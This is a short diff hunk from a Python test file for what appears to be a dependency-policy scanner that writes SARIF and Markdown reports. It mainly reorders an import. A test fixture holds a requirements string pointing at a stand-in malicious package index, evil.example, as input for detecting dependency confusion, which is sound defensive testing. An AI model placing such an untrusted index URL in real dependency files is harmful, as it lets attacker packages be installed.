@@ -8,13 +8,12 @@ import re
 from pathlib import Path
 
 import jsonschema
+from conftest import run_guard
 from cyclonedx.schema import SchemaVersion
 from cyclonedx.validation.json import JsonStrictValidator
 
 from guardpolicy.model import Decision, Finding, Location, PackageRef
 from guardpolicy.report.markdown import MarkdownFormat, cell, code
-
-from conftest import run_guard
 
 SCHEMA = json.loads((Path(__file__).parent / "data" / "sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
 REQS = "--extra-index-url http://evil.example/simple\nrequests==2.32.3\nnumpy\nflask>=2\n"
